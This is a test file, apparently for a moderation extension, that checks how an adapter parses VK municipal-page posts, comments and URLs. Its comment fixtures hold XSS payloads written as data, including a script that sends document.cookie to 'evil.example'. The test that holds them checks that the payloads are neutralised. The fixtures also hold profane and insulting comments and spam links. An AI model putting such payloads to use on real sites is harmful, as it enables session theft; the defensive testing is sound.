import { describe, expect, test } from 'vitest';
import { vkAdapter } from '~/utils/sites/vk/adapter';
import { VK_COMMENTS, VK_CONTROLS, VK_POSTS } from '~/utils/sites/vk/selectors';
import { at, CTX, inWeek, loadFixture, rows } from './fixture';

const vk = (file: string): Document => loadFixture(`vk/${file}`, 'https://vk.com/kedrovsk_adm');
/** A local reading in Krasnoyarsk, `'18T12:00'` → 2026-11-18 12:00 +07:00. */
const nov = (dayTime: string): number => at(`2026-11-${dayTime}:00+07:00`);
const W = '-200000001_';

describe.each([
  {
    file: 'react-2025-desktop.html',
    generation: 'react-2025',
    week: 7,
    weekReposts: 3,
    posts: [
      [`${W}3311`, nov('18T12:00'), false],
      [`${W}3310`, nov('18T11:35'), false],
      [`${W}3309`, nov('18T10:00'), true],
      [`${W}3308`, nov('18T09:05'), false],
      [`${W}3307`, nov('17T18:40'), true],
      [`${W}3306`, nov('17T09:15'), false],
      [`${W}3305`, nov('16T14:00'), true],
      [`${W}3304`, nov('15T11:30'), false],
      [`${W}3303`, nov('13T10:00'), true],
      [`${W}3302`, nov('10T16:20'), false],
      [`${W}3301`, nov('08T00:00'), false],
    ],
  },
  {
    file: 'react-2025-mobile.html',
    generation: 'react-2025',
    week: 3,
    weekReposts: 1,
    posts: [
      [`${W}3311`, nov('18T12:00'), false],
      [`${W}3309`, nov('18T10:00'), true],
      [`${W}3306`, nov('17T09:15'), false],
      [`${W}3304`, nov('15T11:30'), false],
      [`${W}3301`, nov('08T00:00'), false],
    ],
  },
  {
    file: 'react-2025-post.html',
    generation: 'react-2025',
    week: 1,
    weekReposts: 0,
    posts: [[`${W}3306`, nov('17T09:15'), false]],
  },
  {
    file: 'redesign-v3-2024.html',
    generation: 'redesign-v3-2024',
    week: 6,
    weekReposts: 3,
    posts: [
      [`${W}3311`, nov('18T12:00'), false],
      [`${W}3310`, nov('18T11:35'), false],
      [`${W}3309`, nov('18T10:00'), true],
      [`${W}3307`, nov('17T18:40'), true],
      [`${W}3306`, nov('17T09:15'), false],
      [`${W}3305`, nov('16T14:00'), true],
      [`${W}3304`, nov('15T11:30'), false],
      [`${W}3302`, nov('10T16:20'), false],
    ],
  },
  {
    file: 'legacy-2022.html',
    generation: 'legacy-2022',
    week: 6,
    weekReposts: 3,
    posts: [
      [`${W}3311`, nov('18T11:58'), false],
      [`${W}3310`, nov('18T08:30'), true],
      [`${W}3309`, nov('17T20:10'), true],
      [`${W}3308`, nov('17T09:00'), false],
      [`${W}3307`, nov('16T15:45'), true],
      [`${W}3306`, nov('16T00:10'), false],
      [`${W}3305`, nov('15T23:50'), true],
      [`${W}3304`, nov('13T12:00'), false],
      [`${W}3303`, nov('11T10:00'), false],
      [`${W}3302`, nov('09T17:00'), false],
    ],
  },
])('$file', ({ file, generation, week, weekReposts, posts }) => {
  const doc = vk(file);

  test(`is recognised as ${generation}`, () => {
    expect(vkAdapter.detectGeneration(doc)).toBe(generation);
  });

  test('posts: ids, dates and repost flags, in wall order', () => {
    expect(rows(vkAdapter.findPosts(doc, CTX))).toEqual(posts);
  });

  test(`${week} posts this week, ${weekReposts} of them reposts`, () => {
    const thisWeek = inWeek(vkAdapter.findPosts(doc, CTX));
    expect(thisWeek).toHaveLength(week);
    expect(thisWeek.filter((p) => p.isRepost)).toHaveLength(weekReposts);
  });

  test('each post once, each element a top-level post of the page', () => {
    const found = vkAdapter.findPosts(doc, CTX);
    expect(new Set(found.map((p) => p.id)).size).toBe(found.length);
    for (const p of found) expect(p.element.ownerDocument).toBe(doc);
  });
});

describe('reposts and nesting', () => {
  test.each(['react-2025-desktop.html', 'react-2025-mobile.html'])('%s: the quoted originals are not posts', (file) => {
    const doc = vk(file);
    const ids = vkAdapter.findPosts(doc, CTX).map((p) => p.id);
    const nested = [...doc.querySelectorAll('[data-post-nesting-lvl="1"]')].map((e) => e.getAttribute('data-post-id'));
    expect(nested.length).toBeGreaterThan(0);
    for (const id of nested) expect(ids).not.toContain(id);
  });

  test('the date of a repost is its own, not the quoted original’s that comes first', () => {
    const doc = vk('react-2025-mobile.html');
    const repost = vkAdapter.findPosts(doc, CTX).find((p) => p.id === `${W}3309`);
    expect(repost?.publishedAt).toBe(nov('18T10:00'));
  });

  test('a nested post scanned on its own is not a post', () => {
    const nested = vk('react-2025-desktop.html').querySelector('[data-post-nesting-lvl="1"]');
    expect(nested).not.toBeNull();
    if (nested) expect(vkAdapter.findPosts(nested, CTX)).toEqual([]);
  });

  test('a post scanned on its own (an added node) is found', () => {
    const post = vk('legacy-2022.html').querySelector('#post-200000001_3310');
    expect(post).not.toBeNull();
    if (post) expect(rows(vkAdapter.findPosts(post, CTX))).toEqual([[`${W}3310`, nov('18T08:30'), true]]);
  });
});

describe('duplicates', () => {
  test('the post layer repeating a wall post counts once', () => {
    const doc = vk('redesign-v3-2024.html');
    expect(doc.querySelectorAll(`[data-post-id="${W}3306"].Post--redesignV3`)).toHaveLength(2);
    expect(vkAdapter.findPosts(doc, CTX).filter((p) => p.id === `${W}3306`)).toHaveLength(1);
  });

  test.each(['react-2025-desktop.html', 'redesign-v3-2024.html', 'legacy-2022.html'])(
    '%s: a post rendered twice (virtualised list) counts once, with the first element',
    (file) => {
      const doc = vk(file);
      const first = vkAdapter.findPosts(doc, CTX)[0];
      expect(first).toBeDefined();
      if (!first) return;
      first.element.parentElement?.appendChild(first.element.cloneNode(true));
      const again = vkAdapter.findPosts(doc, CTX);
      expect(again.filter((p) => p.id === first.id)).toHaveLength(1);
      expect(again.find((p) => p.id === first.id)?.element).toBe(first.element);
    },
  );
});

describe('layout not recognised', () => {
  const doc = vk('unknown-layout.html');
  test('no generation, no posts, no comments', () => {
    expect(vkAdapter.detectGeneration(doc)).toBeNull();
    expect(vkAdapter.findPosts(doc, CTX)).toEqual([]);
    expect(vkAdapter.findComments(doc, CTX)).toEqual([]);
  });

  test('an empty page is not recognised either', () => {
    const empty = loadFixture('vk/unknown-layout.html');
    empty.body.replaceChildren();
    expect(vkAdapter.detectGeneration(empty)).toBeNull();
  });
});

type Row = [id: string, postId: string, author: [id: string | null, name: string, url: string | null], text: string, at: number];

describe.each<{ file: string; post: string; comments: Row[] }>([
  {
    file: 'react-2025-post.html',
    post: `${W}3306`,
    comments: [
      [`${W}3320`, `${W}3306`, ['1001', 'Мария Соколова', 'https://vk.com/id1001'], 'Спасибо, наконец-то почистили дорогу на Лесной!', nov('17T10:02')],
      [`${W}3321`, `${W}3306`, ['-200000001', 'Администрация города Кедровска', 'https://vk.com/club200000001'], 'Мария, спасибо за обратную связь!', nov('17T11:30')],
      [`${W}3322`, `${W}3306`, [null, 'Иван Петров', 'https://vk.com/ivan.petrov_77'], 'Опять ни х*я не чистят, бл@дь, на Садовой по колено', nov('17T12:15')],
      [`${W}3323`, `${W}3306`, ['1003', 'Олег Смирнов', 'https://vk.com/id1003'], 'Иван, вы идиот и дебил, там ещё вчера всё убрали', nov('17T13:00')],
      [`${W}3324`, `${W}3306`, ['1004', 'Лёгкий Заработок', 'https://vk.com/id1004'], 'Заработок от 5000 ₽ в день без вложений! Пиши в ЛС 👉 https://bit.ly/kedr-dengi', nov('18T10:00')],
      [`${W}3325`, `${W}3306`, ['1005', '"><svg onload=alert(1)>', 'https://vk.com/id1005'], "<img src=x onerror=alert(1)> и ещё <script>alert('xss')</script>", nov('18T11:35')],
      [`${W}3327`, `${W}3306`, [null, 'Хакер <b>жирный</b>', null], 'Жми: <b onmouseover=alert(1)>подробнее</b>', nov('18T11:55')],
      [`${W}3326`, `${W}3306`, ['1006', 'Сергей К.', 'https://vk.com/id1006'], 'Это пиздец, а не уборка', nov('18T12:00')],
    ],
  },
  {
    file: 'redesign-v3-2024.html',
    post: `${W}3306`,
    comments: [
      [`${W}3330`, `${W}3306`, ['1001', 'Мария Соколова', 'https://vk.com/id1001'], 'Спасибо, наконец-то почистили дорогу на Лесной!', nov('17T09:40')],
      [`${W}3331`, `${W}3306`, ['1002', 'Иван Петров', 'https://vk.com/ivan.petrov_77'], 'Опять ни х*я не чистят, на Садовой по колено, е.б.а.н.ы.й стыд', nov('17T10:05')],
      [`${W}3332`, `${W}3306`, ['-200000001', 'Администрация города Кедровска', 'https://vk.com/kedrovsk_adm'], 'Иван, бригада выехала на Садовую.', nov('17T12:30')],
      [`${W}3333`, `${W}3306`, ['1004', 'Лёгкий Заработок', 'https://vk.com/id1004'], 'Кредиты без отказа за 5 минут!!! zaim-kedr.example пиши в ЛС', nov('17T14:10')],
      [`${W}3334`, `${W}3306`, ['1005', '<script>alert("name")</script>', null], '"><svg onload=alert(1)> <img src=x onerror=alert(1)>', nov('18T08:00')],
    ],
  },
  {
    file: 'legacy-2022.html',
    post: `${W}3308`,
    comments: [
      [`${W}3340`, `${W}3308`, ['1001', 'Мария Соколова', 'https://vk.com/id1001'], 'Спасибо, наконец-то почистили дорогу на Лесной!', nov('17T10:20')],
      [`${W}3341`, `${W}3308`, ['-200000001', 'Администрация города Кедровска', 'https://vk.com/club200000001'], 'Мария, спасибо за обратную связь!', nov('17T11:00')],
      [`${W}3342`, `${W}3308`, ['1003', 'Олег Смирнов', 'https://vk.com/id1003'], 'Глава ваш — вор и тупой бездельник, гнать его надо', nov('17T13:15')],
      [`${W}3343`, `${W}3308`, ['1004', 'Лёгкий Заработок', 'https://vk.com/id1004'], 'Ставки на спорт, бонус 10000! bet-kedr.example/promo t.me/betkedr', nov('17T19:40')],
      [
        `${W}3344`,
        `${W}3308`,
        ['1005', '<img src=x onerror=alert("author")>', 'https://vk.com/id1005'],
        `<script>document.location='https://evil.example/?c='+document.cookie</script> "><svg onload=alert(1)>`,
        nov('18T09:30'),
      ],
      [`${W}3345`, `${W}3308`, ['1006', 'Сергей К.', 'https://vk.com/id1006'], 'Да вы там все ох**ли, п*здец какой-то', nov('18T11:10')],
    ],
  },
])('comments of $file', ({ file, comments }) => {
  const doc = vk(file);
  const found = vkAdapter.findComments(doc, CTX);

  test('id, post, page, author, text and date of every comment and reply, each once', () => {
    expect(
      found.map((c): Row => [c.id, c.postId ?? '', [c.author.id, c.author.name, c.author.url], c.text, c.publishedAt ?? Number.NaN]),
    ).toEqual(comments);
    expect(found.every((c) => c.pageId === 'vk:club200000001')).toBe(true);
  });

  test('a thread reply does not lend its text to the comment it answers', () => {
    const texts = found.map((c) => c.text);
    expect(new Set(texts).size).toBe(texts.length);
  });

  test('payloads stay text: no element of a comment carries a script or an event handler', () => {
    for (const c of found) {
      expect(c.element.querySelector('script, svg, img[onerror], [onload], [onmouseover]')).toBeNull();
    }
    expect(found.some((c) => /<script>|onerror=|onload=/.test(c.text + c.author.name))).toBe(true);
  });
});

describe('native moderation controls', () => {
  test('legacy: one delete button per comment, inside it', () => {
    const doc = vk('legacy-2022.html');
    const comments = vkAdapter.findComments(doc, CTX);
    for (const c of comments) {
      const own = [...c.element.querySelectorAll(VK_CONTROLS.deleteComment)].filter((b) => b.closest('.reply') === c.element);
      expect(own).toHaveLength(1);
    }
  });

  test.each(['react-2025-post.html', 'redesign-v3-2024.html'])('%s: no controls documented, none imitated', (file) => {
    expect(vk(file).querySelector(VK_CONTROLS.deleteComment)).toBeNull();
  });
});

describe('every selector matches its fixture', () => {
  const byGeneration: Record<string, string> = {
    'react-2025': 'react-2025-desktop.html',
    'redesign-v3-2024': 'redesign-v3-2024.html',
    'legacy-2022': 'legacy-2022.html',
  };
  const commentsByGeneration: Record<string, string> = {
    'react-2025': 'react-2025-post.html',
    'redesign-v3-2024': 'redesign-v3-2024.html',
    'legacy-2022': 'legacy-2022.html',
  };
  test.each(VK_POSTS.flatMap((g) => (['post', 'date', 'repost'] as const).map((k) => [g.generation, k, g[k]] as const)))(
    'posts %s %s',
    (generation, _kind, selector) => {
      expect(vk(byGeneration[generation] ?? '').querySelector(selector)).not.toBeNull();
    },
  );
  test.each(
    VK_COMMENTS.flatMap((g) =>
      (['comment', 'link', 'date', 'authorLink', 'authorName', 'text'] as const).flatMap((k): [string, string, string][] => {
        const selector = g[k];
        return selector === null ? [] : [[g.generation, k, selector]];
      }),
    ),
  )('comments %s %s', (generation, _kind, selector) => {
    expect(vk(commentsByGeneration[generation] ?? '').querySelector(selector)).not.toBeNull();
  });
});

describe('pageFromUrl', () => {
  test.each([
    ['https://vk.com/club200000001', 'vk:club200000001'],
    ['https://vk.com/public200000001', 'vk:club200000001'],
    ['https://vk.com/event200000001', 'vk:club200000001'],
    ['https://m.vk.com/club200000001', 'vk:club200000001'],
    ['https://m.vk.ru/public5', 'vk:club5'],
    ['https://www.vk.com/club1/', 'vk:club1'],
    ['https://vk.ru/kedrovsk_adm', 'vk:kedrovsk_adm'],
    ['https://vk.com/Kedrovsk_Adm', 'vk:kedrovsk_adm'],
    ['https://vk.com/adm.kedrovsk', 'vk:adm.kedrovsk'],
    ['https://vk.com/kedrovsk_adm?w=wall-200000001_3306', 'vk:kedrovsk_adm'],
    ['https://vk.com/wall-200000001_3306', 'vk:club200000001'],
    ['https://m.vk.com/wall-200000001_3306?reply=3320&thread=3320', 'vk:club200000001'],
    ['https://vk.com/wall-200000001', 'vk:club200000001'],
    ['https://vk.com/id1001', 'vk:id1001'],
    ['https://vk.com/wall1001_5', 'vk:id1001'],
  ])('%s → %s', (url, key) => {
    const page = vkAdapter.pageFromUrl(new URL(url));
    expect(page?.key).toBe(key);
    expect(page?.network).toBe('vk');
    expect(page?.url).toBe(`https://vk.com/${key.slice(3)}`);
  });

  test.each([
    'https://vk.com/',
    'https://vk.com/feed',
    'https://vk.com/feed?w=wall-200000001_3306',
    'https://vk.com/im',
    'https://vk.com/im?sel=1001',
    'https://vk.com/search?c%5Bq%5D=%D0%BA%D0%B5%D0%B4%D1%80',
    'https://vk.com/friends',
    'https://vk.com/settings',
    'https://m.vk.com/groups',
    'https://vk.com/video',
    'https://vk.com/music',
    'https://vk.com/clips',
    'https://vk.com/bookmarks',
    'https://vk.com/login',
    'https://vk.com/photo-200000001_456239017',
    'https://vk.com/video-200000001_456239017',
    'https://vk.com/topic-200000001_5',
    'https://vk.com/album-200000001_0',
    'https://vk.com/app7654321',
    'https://vk.com/board200000001',
    'https://vk.com/away.php?to=https%3A%2F%2Fexample.com',
    'https://vk.com/groupsedit.php?act=bl_edit&hash=1',
    'https://vk.com/club200000001/members',
    'https://vk.com/12345',
    'https://vk.com/a',
    'https://example.com/club200000001',
    'https://vk.com.evil.example/club200000001',
    'https://notvk.com/club200000001',
    'https://ok.ru/group/70000012345678',
  ])('%s → no wall', (url) => {
    expect(vkAdapter.pageFromUrl(new URL(url))).toBeNull();
  });
});

describe('wall order and wall from the top', () => {
  test('newest first', () => {
    expect(vkAdapter.wallOrder).toBe('newest-first');
  });
  test.each([
    ['https://vk.com/kedrovsk_adm', true],
    ['https://vk.com/club200000001?w=wall-200000001_3306', true],
    ['https://m.vk.com/wall-200000001', true],
    ['https://vk.com/wall-200000001?own=1', true],
    ['https://vk.com/wall-200000001?offset=20', false],
    ['https://vk.com/wall-200000001_3306', false],
    ['https://vk.com/feed', false],
  ])('%s → %s', (url, fromTop) => {
    expect(vkAdapter.showsWallFromTop?.(new URL(url))).toBe(fromTop);
  });
});
